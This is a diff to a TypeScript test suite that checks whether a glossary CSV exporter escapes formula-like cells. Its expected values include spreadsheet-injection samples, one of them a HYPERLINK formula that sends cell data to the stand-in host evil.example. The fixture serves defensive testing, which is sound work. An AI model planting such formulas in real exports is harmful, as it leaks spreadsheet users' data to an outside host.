@@ -56,7 +56,7 @@ describe('glossary CSV', () => {
       term('under-score', 'a-b', { note: 'x = y' }),
     ];
     const csv = writeGlossaryCsv(hostile);
-    const cells = (parse(csv) as string[][]).slice(1);
+    const cells = parse(csv).slice(1);
     expect(cells[0]![0]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
     expect(cells[1]!.slice(0, 3)).toEqual(["'+1+1", "'-2+3", "'@SUM(A1:A9)"]);
     expect(cells[2]!.slice(2, 4)).toEqual(["'\t=1+1", "'=cmd"]);
